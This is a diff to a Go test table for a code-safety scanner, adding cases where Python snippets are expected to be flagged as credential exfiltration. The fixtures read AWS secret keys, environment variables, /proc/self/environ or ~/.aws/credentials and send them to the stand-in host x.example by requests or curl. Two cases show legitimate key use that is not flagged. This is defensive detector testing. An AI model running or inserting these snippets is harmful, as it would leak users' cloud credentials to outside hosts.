@@ -341,6 +341,23 @@ func TestPatterns(t *testing.T) {
 		{"os.system returned by a lambda", "import os\ng = (lambda: os.system)()\ng('id')\n", "codesafety.B605", "unsafe", 2},
 		{"staticmethod(exec)", "T = type('X', (), {'run': staticmethod(exec)})\n", "codesafety.B102", "unsafe", 1},
 		{"methods named eval and exec", "model.eval()\nf = model.eval\nhooks = [model.eval, job.exec, json.loads]\n", "", "", 0},
+		// Credentials followed through more than one assignment: +=, loops, containers,
+		// attributes, the code's own functions and lambdas, other names of the
+		// environment and credentials files, and programs that send them.
+		{"secret by +=", "import os, requests\nbody = ''\nbody += os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://x.example', data=body)\n", "codesafety.exfiltration", "malicious", 4},
+		{"secret by a loop", "import os, requests\nfor k, v in os.environ.items():\n    requests.post('https://x.example', data=v)\n", "codesafety.exfiltration", "malicious", 3},
+		{"secret by append", "import os, requests\nl = []\nl.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nrequests.post('https://x.example', json=l)\n", "codesafety.exfiltration", "malicious", 4},
+		{"secret by attribute", "import os, requests\nclass C:\n    pass\nc = C()\nc.key = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://x.example', data=c.key)\n", "codesafety.exfiltration", "malicious", 6},
+		{"secret by a parameter", "import os, requests\ndef send(x):\n    requests.post('https://x.example', data=x)\nsend(os.environ['AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", "malicious", 3},
+		{"secret by a lambda", "import os, requests\nsend = lambda x: requests.post('https://x.example', data=x)\nsend(os.environ['AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", "malicious", 2},
+		{"secret by a return", "import os, requests\ndef k():\n    return os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://x.example', data=k())\n", "codesafety.exfiltration", "malicious", 4},
+		{"os.environb", "import os, requests\nrequests.post('https://x.example', data=os.environb[b'AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", "malicious", 2},
+		{"posix.environ", "import posix, requests\nrequests.post('https://x.example', data=posix.environ[b'AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", "malicious", 2},
+		{"/proc/self/environ", "import requests\nrequests.post('https://x.example', data=open('/proc/self/environ').read())\n", "codesafety.exfiltration", "malicious", 2},
+		{"credentials by pathlib", "import requests, pathlib\np = pathlib.Path.home() / '.aws' / 'credentials'\nrequests.post('https://x.example', data=p.read_text())\n", "codesafety.exfiltration", "malicious", 3},
+		{"secret to curl", "import os, subprocess\nsubprocess.run(['curl', '-d', os.environ['AWS_SECRET_ACCESS_KEY'], 'https://x.example'])\n", "codesafety.exfiltration", "malicious", 2},
+		{"secret to its service by a parameter", "import os, requests\ndef models(key):\n    return requests.get('https://api.openai.com/v1/models', headers={'Authorization': f'Bearer {key}'})\nmodels(os.environ['OPENAI_API_KEY'])\n", "", "", 0},
+		{"secret to a local program", "import os, subprocess\nsubprocess.run(['aws', 's3', 'ls'], env={'AWS_SECRET_ACCESS_KEY': os.environ['AWS_SECRET_ACCESS_KEY']})\n", "", "", 0},
 		{"destructive command in a docstring", "def guard(c):\n    \"\"\"Refuses rm -rf / and the like.\"\"\"\n", "", "", 0},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
